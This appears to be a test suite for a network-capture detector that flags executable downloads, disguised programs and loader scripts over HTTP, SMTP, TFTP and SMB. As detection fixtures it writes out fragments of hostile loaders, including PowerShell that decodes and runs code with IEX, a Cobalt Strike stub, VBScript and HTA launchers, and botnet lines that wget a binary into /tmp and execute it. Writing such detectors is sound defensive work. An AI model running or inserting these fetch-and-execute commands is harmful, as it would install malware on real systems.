/** Programs in clear, told by their first bytes; pictures, texts and archives are left alone. Magic numbers are those of file(1) 5.44. */
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import { deflateRawSync, gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { contradicts, fileKind } from '../../../src/analysis/detectors/fileMagic.ts';
import { executableDownload } from '../../../src/analysis/detectors/registry.ts';
import type { HttpResponseMessage } from '../../../src/pcap/http/messages.ts';
import type { FileStartMessage } from '../../../src/pcap/fileStart.ts';
import { installPlatform } from '../../../src/pcap/platform.ts';
import { nodePlatform } from '../../../src/pcap/platform.node.ts';
import { analyzeCapture, findingsOf, hasShared, indicator, shared } from '../../support/analyzeCapture.ts';
import { checkFilter } from '../../../src/analysis/filtering.ts';
import { dialogue } from '../../support/dialogue.ts';
import { MessageDriver } from '../../support/messageDriver.ts';
import { ACK, FIN, PacketBuilder, PSH, SYN } from '../../support/packetBuilder.ts';

installPlatform(nodePlatform);

const CLIENT = '10.0.0.5',
  SERVER = '203.0.113.80';

/** A program of `size` bytes with the headers of PE: MZ, and PE\0\0 where offset 60 says. */
function pe(size: number): Uint8Array {
  const bytes = new Uint8Array(size).map((_, i) => (i * 7) & 255);
  bytes.fill(0, 0, 200);
  bytes.set([0x4d, 0x5a]);
  bytes[60] = 128;
  bytes.set([0x50, 0x45, 0, 0], 128);
  return bytes;
}

const elf = (size: number): Uint8Array => {
  const bytes = new Uint8Array(size);
  bytes.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]);
  return bytes;
};

/** One request and its answer: the head in a segment of its own where `split`. */
function download(body: Uint8Array, headers: string, uri = '/a', split = false, host = 'files.example'): Uint8Array {
  const builder = new PacketBuilder(),
    text = (line: string): Uint8Array => new TextEncoder().encode(line),
    there = { from: CLIENT, to: SERVER, sourcePort: 40_000, destinationPort: 80 },
    back = { from: SERVER, to: CLIENT, sourcePort: 80, destinationPort: 40_000 };
  const request = `GET ${uri} HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
    head = text(`HTTP/1.1 200 OK\r\n${headers}Content-Length: ${body.length}\r\n\r\n`);
  builder.tcp({ ...there, flags: SYN, sequence: 1000 }).tcp({ ...back, flags: SYN | ACK, sequence: 5000, acknowledgment: 1001 });
  builder.tcp({ ...there, flags: PSH | ACK, sequence: 1001, acknowledgment: 5001, payload: text(request) });
  const all = new Uint8Array(head.length + body.length);
  all.set(head);
  all.set(body, head.length);
  let at = 0;
  while (at < all.length) {
    const end = split && at === 0 ? head.length : Math.min(all.length, at + 1400);
    builder.tcp({ ...back, flags: PSH | ACK, sequence: 5001 + at, acknowledgment: 1001 + request.length, payload: all.slice(at, end) });
    at = end;
  }
  return builder.bytes();
}

const told = async (capture: Uint8Array | string) => findingsOf(await analyzeCapture(capture), 'executable-download');

describe('is told', () => {
  test.each([
    ['in one stream', false],
    ['with a head of its own', true],
  ])('a program %s, with its hash', async (_, split) => {
    const body = pe(100_000),
      [finding, ...others] = await told(download(body, 'Content-Type: application/octet-stream\r\n', '/setup.exe', split));
    expect(others).toEqual([]);
    expect(finding).toMatchObject({
      severity: 'low',
      subjects: [
        { role: 'server', address: SERVER, port: 80 },
        { role: 'client', address: CLIENT },
      ],
    });
    expect(indicator(finding!, 'SHA-256')).toBe(createHash('sha256').update(body).digest('hex'));
    expect(indicator(finding!, 'name')).toBe('setup.exe');
  });

  test('a program that says it is a picture is high', async () => {
    const [finding] = await told(download(pe(3000), 'Content-Type: image/jpeg\r\n', '/holiday.jpg'));
    expect(finding).toMatchObject({ severity: 'high' });
    expect(finding!.attack).toContain('T1036.008');
  });

  test('a program from a bare address is medium', async () => {
    expect(await told(download(elf(9000), '', '/bins/x86', false, SERVER))).toMatchObject([{ severity: 'medium' }]);
  });

  test('a program under gzip', async () => {
    const body = new Uint8Array(gzipSync(elf(9000)));
    expect(await told(download(body, 'Content-Encoding: gzip\r\n'))).toMatchObject([{ severity: 'low' }]);
  });

  test('a program over a plain connection, as FTP and netcat send it', async () => {
    const builder = new PacketBuilder(),
      there = { from: CLIENT, to: SERVER, sourcePort: 40_000, destinationPort: 50_123 },
      back = { from: SERVER, to: CLIENT, sourcePort: 50_123, destinationPort: 40_000 };
    builder.tcp({ ...there, flags: SYN, sequence: 1000 }).tcp({ ...back, flags: SYN | ACK, sequence: 5000, acknowledgment: 1001 });
    builder.tcp({ ...back, flags: PSH | ACK, sequence: 5001, acknowledgment: 1001, payload: elf(1000) });
    builder.tcp({ ...back, flags: FIN | ACK, sequence: 6001, acknowledgment: 1001 });
    expect(await told(builder.bytes())).toMatchObject([{ severity: 'medium', subjects: [{ address: SERVER }, { address: CLIENT }] }]);
  });

  // MS-ONESTORE section 2.3.1: {7B5C52E4-D88C-4DA7-AEB1-5378D02996D3}, as it stands in a file.
  const oneNote = Uint8Array.from([
    0xe4,
    0x52,
    0x5c,
    0x7b,
    0x8c,
    0xd8,
    0xa7,
    0x4d,
    0xae,
    0xb1,
    0x53,
    0x78,
    0xd0,
    0x29,
    0x96,
    0xd3,
    ...new Uint8Array(300),
  ]);
  /** ECMA-119 sections 7.2.1 and 8.4: a system area of 32 KiB, then the descriptor of the volume. */
  const diskImage = (systemArea = 0): Uint8Array => {
    const bytes = new Uint8Array(40_000);
    bytes.fill(systemArea, 0, 512);
    bytes.set([1, 0x43, 0x44, 0x30, 0x30, 0x31, 1], 32_768);
    return bytes;
  };
  test.each<[string, Uint8Array, string]>([
    ['a section of OneNote', oneNote, '/inv.one'],
    ['a disk image', diskImage(), '/inv.iso'],
  ])('%s, with less weight where a server has a name, and hardly any from a place of packages', async (what, body, uri) => {
    const [bare] = await told(download(body, '', uri, false, SERVER));
    expect(bare).toMatchObject({
      severity: 'medium',
      title: expect.stringMatching(what === 'a disk image' ? /got a disk image/ : /got a OneNote/) as string,
    });
    const [named] = await told(download(body, '', uri));
    expect(named).toMatchObject({ severity: 'low' });
    expect(named!.confidence).toBeLessThan(bare!.confidence);
    expect(await told(download(body, '', uri, false, 'cdimage.debian.org'))).toMatchObject([{ severity: 'info' }]);
  });
  test('an image that a system starts from is none, nor one whose name says something else', async () => {
    // The boot sector of an image by isohybrid begins with 45 52 08 00.
    expect(await told(download(diskImage(0x45), '', '/debian-netinst.iso', false, SERVER))).toEqual([]);
    expect(await told(download(diskImage(), '', '/zeros.dat', false, SERVER))).toEqual([]);
  });
  test('an image as large as a system is a fact, wherever it comes from', () => {
    const driver = new MessageDriver(executableDownload);
    driver.say<HttpResponseMessage>(driver.flow(CLIENT, SERVER, 80, 'http'), {
      kind: 'http-response',
      version: '1.1',
      status: 200,
      phrase: 'OK',
      server: null,
      location: null,
      authenticate: null,
      contentType: 'application/x-iso9660-image',
      contentEncoding: null,
      requestFrame: 1,
      method: 'GET',
      uri: '/windows.iso',
      host: SERVER,
      bodyLength: 5_000_000_000,
      bodyStart: '\0'.repeat(512),
      bodySha256: null,
      headers: [],
    });
    expect(driver.findings).toMatchObject([{ severity: 'info' }]);
  });

  test('this very Node, if it is one of these systems', () => {
    const start = Buffer.alloc(512),
      file = fs.openSync(process.execPath, 'r');
    fs.readSync(file, start, 0, 512, 0);
    fs.closeSync(file);
    expect(fileKind(start.toString('latin1'))?.native).toBe(true);
  });
});

describe('is silent on', () => {
  test.each<[string, string]>([
    ['a text that begins with MZ', `MZ is a former abbreviation of something else, and this text is long enough for a header of PE.`],
    ['a PNG', '\x89PNG\r\n\x1a\n'],
    ['a page', '<!DOCTYPE html>'],
    ['a zip without macros', 'PK\x03\x04word/document.xml'],
    ['an old document without macros', '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'],
    ['a comment', '#! this is not a path'],
    ['a PDF', '%PDF-1.4'],
    ['nothing', ''],
  ])('%s', (_, start) => {
    expect(fileKind(start)).toBeNull();
  });

  test('data that only pretend to be gzip', async () => {
    expect(await told(download(new Uint8Array(deflateRawSync(elf(2000))), 'Content-Encoding: gzip\r\n'))).toEqual([]);
  });

  test('a name and a type that fit', () => {
    expect(contradicts(fileKind('\x7fELF\x02')!, 'application/octet-stream', 'a.bin')).toBeNull();
    expect(contradicts(fileKind('#!/bin/sh\n')!, 'text/plain', 'install.sh')).toBeNull();
  });
});

describe('in captures', () => {
  test.skipIf(!hasShared)('the class that Log4Shell loads', async () => {
    // tshark --export-objects http: Exploit.class, 203.0.113.217:8000.
    expect(await told(shared('exploit__log4j-attack.pcap'))).toMatchObject([
      { subjects: [{ address: '203.0.113.217' }, { address: '198.51.100.10' }] },
    ]);
  });
});

describe('over other protocols than HTTP', () => {
  test('an attachment of a mail, whose name lies', async () => {
    const coded = Buffer.from(pe(900)).toString('base64').replace(/.{76}/g, '$&\r\n');
    const mail = (name: string, content: string): string =>
      `From: a@example.org\r\nSubject: bill\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nHello\r\n--b\r\nContent-Type: application/octet-stream; name="${name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${content}\r\n--b--\r\n.\r\n`;
    const run = async (name: string, content: string) =>
      findingsOf(
        await analyzeCapture(
          dialogue(
            [
              ['server', '220 mail\r\n'],
              ['client', 'EHLO a\r\n'],
              ['server', '250 mail\r\n'],
              ['client', 'MAIL FROM:<a@example.org>\r\n'],
              ['server', '250 ok\r\n'],
              ['client', 'RCPT TO:<b@example.org>\r\n'],
              ['server', '250 ok\r\n'],
              ['client', 'DATA\r\n'],
              ['server', '354 go\r\n'],
              ['client', mail(name, content)],
              ['server', '250 queued\r\n'],
            ],
            { port: 25 },
          ).bytes(),
        ),
        'executable-download',
      );
    const [finding, ...others] = await run('bill.pdf', coded);
    expect(others).toEqual([]);
    expect(finding).toMatchObject({
      severity: 'high',
      subjects: [
        { role: 'client', address: '10.0.0.5' },
        { role: 'server', address: '203.0.113.9', port: 25 },
      ],
    });
    expect(checkFilter(finding!.evidence.filter)).toMatchObject({ ok: true });
    expect(await run('setup.exe', coded)).toMatchObject([{ severity: 'medium' }]);
    expect(await run('photo.jpg', Buffer.from('\xff\xd8\xff\xe0 a picture that is none of a program', 'latin1').toString('base64'))).toEqual([]);
  });

  test('TFTP, for a note: devices fetch what they start from so', async () => {
    const run = async (content: Uint8Array) => {
      const builder = new PacketBuilder()
        .udp({
          from: CLIENT,
          to: '10.0.0.1',
          sourcePort: 40_000,
          destinationPort: 69,
          payload: Uint8Array.from([0, 1, ...Buffer.from('a.exe\0octet\0')]),
        })
        .udp({
          from: '10.0.0.1',
          to: CLIENT,
          sourcePort: 50_000,
          destinationPort: 40_000,
          payload: Uint8Array.from([0, 3, 0, 1, ...content.subarray(0, 512)]),
        });
      return findingsOf(await analyzeCapture(builder.bytes()), 'executable-download');
    };
    const [finding] = await run(pe(600));
    expect(finding).toMatchObject({
      severity: 'low',
      subjects: [
        { role: 'server', address: '10.0.0.1' },
        { role: 'client', address: CLIENT },
      ],
      evidence: { frames: [2] },
    });
    expect(finding!.evidence.flows).toHaveLength(1);
    expect(await run(Uint8Array.from({ length: 600 }, (_, i) => i & 255))).toEqual([]);
  });
});

/** A page of text as a program gets it. */
const fetched = (text: string, { type = 'Content-Type: text/plain\r\n', uri = '/a', host = '203.0.113.80' } = {}) =>
  told(
    download(
      Uint8Array.from(text, (character) => character.charCodeAt(0)),
      type,
      uri,
      false,
      host,
    ),
  );

describe('programs that hide in texts, and scripts that load them', () => {
  const program = pe(3000);
  test.each([
    // MZ 90 00 03 00 00 00 04 ... as every linker of Microsoft writes it.
    ['base 64', `TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAA${'A'.repeat(200)}`],
    ['digits', `4D5A90000300000004000000FFFF0000${'00'.repeat(200)}`],
    ['digits', '77,90,144,0,3,0,0,0,4,0,0,0,255,255,0,0,184,0,0,0,0,0,0,0'],
  ])('in %s', async (written, text) => {
    const [finding, ...others] = await fetched(text, { host: 'paste.example' });
    expect(others).toEqual([]);
    expect(finding).toMatchObject({ severity: 'high' });
    expect(indicator(finding!, 'contradiction')).toBe(`it is written in ${written}`);
  });
  test.each([
    [
      'PowerShell that unpacks',
      "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAA'));IEX (New-Object IO.StreamReader($s)).ReadToEnd();",
      '/a',
    ],
    [
      'PowerShell that unpacks more than is looked at',
      `$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String("H4sIAAAAAAAA${'k7Q/x+'.repeat(200)}"));IEX (New-Object IO.StreamReader($s)).ReadToEnd();`,
      '/a',
    ],
    ['PowerShell of Cobalt Strike', "Set-StrictMode -Version 2\n\n$DoIt = @'\nfunction func_get_proc_address {\n", '/a'],
    ['Visual Basic', 'Dim sh\r\nSet sh = CreateObject("WScript.Shell")\r\nsh.Run "powershell -enc AAAA",0\r\n', '/u.vbs'],
    ['an HTML application', '<script language="VBScript">\r\nCreateObject("Shell.Application").ShellExecute "cmd"\r\n</script>', '/u.hta'],
    ['a botnet', '#!/bin/sh\ncd /tmp; wget http://203.0.113.80/bins/x86; chmod 777 x86; ./x86\n', '/bins.sh'],
    ['a botnet without a first line', 'cd /tmp || cd /var/run; wget http://203.0.113.80/x86; chmod +x x86; ./x86\n', '/w.sh'],
  ])('a loader: %s, from a bare address', async (_name, text, uri) => {
    expect(await fetched(text, { uri })).toMatchObject([
      { severity: 'medium', title: expect.stringContaining('script that loads a program') as unknown },
    ]);
    expect(await fetched(text, { uri, host: 'files.example' })).toMatchObject([{ severity: 'low' }]);
  });
  test('a script for the hosts of Windows, an installer, archives by their first name', async () => {
    expect(await fetched('WScript.Echo "hello"\r\n', { uri: '/hello.vbs' })).toMatchObject([{ severity: 'low' }]);
    expect(await fetched(`\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${'\0'.repeat(600)}`, { uri: '/u.msi', host: 'files.example', type: '' })).toMatchObject([
      { severity: 'low' },
    ]);
    // APPNOTE.TXT 4.3.7: the length of the name stands at 26, the name at 30.
    const zip = (name: string): string => `PK\x03\x04\x14\0\0\0\x08\0${'\0'.repeat(16)}${String.fromCharCode(name.length)}\0\0\0${name}data`;
    expect(await fetched(zip('invoice.exe'), { uri: '/inv.zip' })).toMatchObject([
      { severity: 'low', title: expect.stringContaining('archive that begins with a program') as unknown },
    ]);
    expect(await fetched(zip('META-INF/MANIFEST.MF'), { uri: '/x.jar' })).toMatchObject([{ severity: 'low' }]);
    expect(await fetched(zip('readme.txt'), { uri: '/inv.zip' })).toEqual([]);
  });
  test('a program among the files of a blog', async () =>
    expect(await told(download(program, 'Content-Type: application/octet-stream\r\n', '/wp-content/plugins/kP2/'))).toMatchObject([
      { severity: 'medium' },
    ]));
  test('a program in a form', async () => {
    const head = '--x\r\nContent-Disposition: form-data; name="f"; filename="a.exe"\r\nContent-Type: application/octet-stream\r\n\r\n',
      body = head + String.fromCharCode(...program),
      capture = dialogue([
        [
          'client',
          `POST /up HTTP/1.1\r\nHost: intranet.example\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
        ],
      ]);
    const [finding] = await told(capture.bytes());
    expect(finding).toMatchObject({ severity: 'low', title: expect.stringContaining('Windows program (PE)') as unknown });
    expect(indicator(finding!, 'name')).toBe('a.exe');
  });
  test.each([
    ['a picture in base 64', `iVBORw0KGgoAAAANSUhEUgAA${'A'.repeat(200)}`, '/logo.b64'],
    ['a list of hashes', `4d5a${'0'.repeat(28)}\n`.repeat(10), '/list.txt'],
    ['an old library of the web', 'var x = new ActiveXObject("Microsoft.XMLHTTP");\n', '/app.js'],
    ['a page that says a file is gone', '<!DOCTYPE html><html>not found</html>', '/u.vbs'],
    ['notes on wget', 'wget is a program that fetches files. See http://203.0.113.80/manual. Then chmod is explained, at length.\n', '/notes.txt'],
  ])('silent on %s', async (_name, text, uri) => expect(await fetched(text, { uri })).toEqual([]));
});

describe('a program that is read from a share', () => {
  const read = (server: string, name: string) => {
    const driver = new MessageDriver(executableDownload),
      flow = driver.flow(CLIENT, server, 445, 'nbss');
    return driver.say<FileStartMessage>(flow, { kind: 'file-start', carrier: 'smb2', name, start: String.fromCharCode(...pe(200)) }).findings;
  };
  test('comes from the server, and is nothing special within a network', () => {
    const [finding, ...others] = read('10.0.0.9', 'setup.exe');
    expect(others).toEqual([]);
    expect(finding).toMatchObject({
      severity: 'low',
      subjects: [
        { role: 'server', address: '10.0.0.9', port: 445 },
        { role: 'client', address: CLIENT },
      ],
    });
    expect(checkFilter(finding!.filter)).toMatchObject({ ok: true });
  });
  test('is from outside, or under the name of a picture', () => {
    expect(read(SERVER, 'setup.exe')).toMatchObject([{ severity: 'medium' }]);
    expect(read('10.0.0.9', 'photo.jpg')).toMatchObject([{ severity: 'high' }]);
  });
});
